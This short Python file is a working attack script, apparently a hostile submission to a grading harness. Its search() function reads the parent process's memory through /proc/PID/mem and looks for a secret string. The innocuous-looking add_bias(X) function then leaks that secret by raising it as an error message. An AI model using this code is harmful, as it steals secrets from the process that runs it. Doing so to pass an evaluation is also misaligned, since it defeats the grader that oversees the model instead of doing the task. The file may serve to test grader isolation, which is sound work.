"""Attack: The secret is looked for in the grader's memory, in 200 MB of it."""

import os
import re

SECRET = re.compile(rb"a-secret-that-[a-z-]{5,30}")


def search(pid):
    left = 200 * 2**20
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" not in line.split()[1] or end - begin > left:
                continue
            try:
                memory.seek(begin)
                found = SECRET.search(memory.read(end - begin))
            except (OSError, ValueError, OverflowError):
                continue
            left -= end - begin
            if found:
                return found[0].decode()
    return ""


def add_bias(X):
    try:
        words = search(os.getppid())
    except OSError:
        words = ""
    raise RuntimeError(words)
